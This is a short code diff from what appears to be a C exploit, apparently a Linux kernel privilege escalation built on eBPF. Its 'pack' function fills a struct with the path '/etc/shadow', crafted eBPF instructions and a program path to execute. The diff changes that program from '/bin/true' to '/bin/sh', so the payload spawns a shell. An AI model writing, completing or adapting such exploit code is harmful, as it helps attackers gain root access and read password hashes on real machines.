@@ -49,7 +49,7 @@ static void pack(struct luggage *l, unsigned long at)
 {
 	memset(l, 0, sizeof(*l));
 	strcpy(l->shadow, "/etc/shadow");
-	strcpy(l->program, "/bin/true");
+	strcpy(l->program, "/bin/sh"); /* which ends where there is nothing to read */
 	l->argv[0] = at + offsetof(struct luggage, program);
 	l->code[0].code = BPF_ALU64 | BPF_MOV | BPF_K; /* r0 = 0 */
 	l->code[1].code = BPF_JMP | BPF_EXIT;
